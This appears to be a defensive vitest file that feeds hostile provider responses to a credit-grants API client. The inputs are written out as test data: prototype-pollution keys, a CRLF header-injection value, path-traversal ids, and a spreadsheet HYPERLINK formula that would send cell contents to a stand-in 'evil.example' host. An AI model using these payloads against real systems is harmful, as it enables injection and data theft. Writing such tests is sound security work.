import { describe, expect, test } from 'vitest';

import { InputError } from '../../nodes/CreditGrants/grants/errors';
import type { JsonObject } from '../../nodes/CreditGrants/grants/types';
import { Book, ENTITLEMENT } from './book';
import { newKey, openClient, PROVIDERS, read } from './client';
import { changed, listOf } from './plays';
import { FaultServer } from './server';
import { openTransport } from './transports';

/** The list of one grant, with some of the provider's fields written over. */
function withFields(fields: JsonObject) {
	return changed((honest) => {
		for (const item of listOf(honest)) Object.assign(item, fields);
		return honest;
	});
}

async function readOne(
	provider: (typeof PROVIDERS)[number],
	fields: JsonObject,
	raw?: (text: string) => string,
) {
	const play = raw
		? ({ honest, reply }: Parameters<ReturnType<typeof withFields>>[0]) =>
				reply({ body: raw(JSON.stringify(honest)) })
		: withFields(fields);
	const server = await new FaultServer(new Book(provider, 1, 1), {
		play,
		at: 1,
		times: 9,
	}).listen();
	const client = openClient({
		url: server.url,
		provider,
		transport: await openTransport('undici'),
	});
	try {
		return await read(client);
	} finally {
		await client.run.close();
		await server.close();
	}
}

const nested = (depth: number) => JSON.parse('['.repeat(depth) + ']'.repeat(depth)) as unknown;

describe.each(PROVIDERS)('hostile data of %s', (provider) => {
	const amountKey = {
		stripe: 'amount',
		sequence: 'originalAmount',
		dodoPayments: 'initial_amount',
	}[provider];
	const amountOf = (value: unknown) =>
		provider === 'stripe' ? { type: 'monetary', monetary: { currency: 'usd', value } } : value;

	test('keys named __proto__ and constructor stay data', async () => {
		const { items } = await readOne(provider, {}, (text) =>
			text.replace(
				'"metadata":{',
				'"metadata":{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},',
			),
		);
		const metadata = items[0].metadata as JsonObject;
		expect(Object.hasOwn(metadata, '__proto__')).toBe(true);
		expect(Object.getPrototypeOf(metadata)).toBe(Object.prototype);
		expect(({} as JsonObject).polluted).toBeUndefined();
	});

	test('a name that a spreadsheet would run is passed on as the provider gave it', async () => {
		const formula = '=HYPERLINK("http://evil.example?x="&A1,"click")';
		const { items } = await readOne(provider, { metadata: { label: formula } });
		expect(items[0].metadata).toEqual({ label: formula });
	});

	test('1 MB of metadata and a thousand levels of nesting arrive whole', async () => {
		const large = { text: 'ü'.repeat(500_000), deep: nested(1000) };
		const { items } = await readOne(provider, { metadata: large });
		expect(JSON.stringify(items[0].metadata)).toBe(JSON.stringify(large));
	});

	test('a lone surrogate arrives as it was escaped', async () => {
		const { items } = await readOne(provider, {}, (text) =>
			text.replace('"label":"', '"label":"\\ud800'),
		);
		expect((items[0].metadata as { label: string }).label.charCodeAt(0)).toBe(0xd800);
	});

	test.each(['NaN', 'Infinity', '1,5', '0x10', '12abc', true, [], {}])(
		'an amount of %j is an error, never a number',
		async (value) => {
			const { error, message } = await readOne(provider, { [amountKey]: amountOf(value) });
			expect(error).toBeDefined();
			expect(message).toMatch(/sent an answer that cannot be used: grant "grant_0_\w+": /);
		},
	);

	test('numbers as text are numbers', async () => {
		const { items } = await readOne(provider, { [amountKey]: amountOf('1250') });
		expect(items[0].amount).toBe(provider === 'stripe' ? 12.5 : 1250);
	});

	test('forty digits stay forty digits', async () => {
		const digits = '1234567890123456789012345678901234567890';
		const { items } = await readOne(provider, { [amountKey]: amountOf(digits) });
		expect(String(items[0].amountExact).replace('.', '')).toBe(digits);
	});

	test('ids that are numbers of nineteen digits stay themselves', async () => {
		const server = await new FaultServer(new Book(provider, 250, 1), {
			play: ({ honest, reply }) => {
				let next = 0;
				const body = JSON.stringify(honest, (key, value: unknown) => (key === 'id' ? '#' : value));
				reply({
					body: body.replace(/"#"/g, () => `12345678901234567${String(next++).padStart(2, '0')}`),
				});
			},
		}).listen();
		const client = openClient({
			url: server.url,
			provider,
			transport: await openTransport('undici'),
		});
		const { items } = await read(client, { limit: 100 });
		expect(items.map(({ id }) => String(id).slice(-2))).toEqual(
			items.map((_, index) => String(index).padStart(2, '0')),
		);
		expect(items).toHaveLength(100);
		await client.run.close();
		await server.close();
	});

	test.each(['99999999999999', '2024-13-45', 'tomorrow', '275761-01-01'])(
		'a date of %j is an error',
		async (date) => {
			const { error } = await readOne(provider, { expires_at: date, expiryDate: date });
			expect(error).toBeDefined();
		},
	);

	test.each(['\r\nX-Evil: 1', '\n', '\0', ' ', 'é'])(
		'a key with %j is refused before any request',
		async (evil) => {
			const server = await new FaultServer(new Book(provider, 1, 1), undefined).listen();
			const transport = await openTransport('undici');
			const open = () => openClient({ url: server.url, provider, transport, key: newKey() + evil });
			expect(open).toThrow(InputError);
			await transport.close();
			expect(server.requests).toEqual([]);
			await server.close();
		},
	);

	test.each(['..', '.', '', '\u0000', '\ud800', 'a\nb'])(
		'an id of %j is refused before its request',
		async (id) => {
			const server = await new FaultServer(new Book(provider, 1, 1), undefined).listen();
			const client = openClient({
				url: server.url,
				provider,
				transport: await openTransport('undici'),
			});
			const { error } = await read(
				client,
				{ grantId: id, customerId: id, entitlementId: id },
				'get',
			);
			expect(error).toBeInstanceOf(InputError);
			expect(server.requests).toEqual([]);
			await client.run.close();
			await server.close();
		},
	);

	test('an id with ? # / and % is one encoded segment', async () => {
		const server = await new FaultServer(new Book(provider, 1, 1), undefined).listen();
		const client = openClient({
			url: server.url,
			provider,
			transport: await openTransport('undici'),
		});
		const id = '../a?b=1#c%2e';
		await read(client, { grantId: id, customerId: id, entitlementId: ENTITLEMENT }, 'get');
		const encoded = encodeURIComponent(id);
		expect(server.requests.filter(({ path }) => path.includes(encoded))).not.toEqual([]);
		expect(server.requests.every(({ query }) => !query.has('b'))).toBe(true);
		await client.run.close();
		await server.close();
	});
});
